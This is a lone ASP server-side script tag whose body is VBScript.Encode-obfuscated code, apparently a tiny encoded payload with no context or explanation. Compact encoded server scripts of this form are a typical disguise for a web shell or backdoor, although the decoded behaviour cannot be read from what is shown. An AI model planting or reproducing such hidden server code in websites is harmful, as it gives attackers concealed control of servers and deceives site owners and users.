<script language="VBScript.Encode" runat="server">#@~^SwAAAA==@#@&C1% r6&:@#@&  -GAe1oAW(P%6( nA=1ANodRPh,D$X6o6$Z@#@&-:X C1%@#@&r6&:@#@&RRMAAA==^#~@</script>
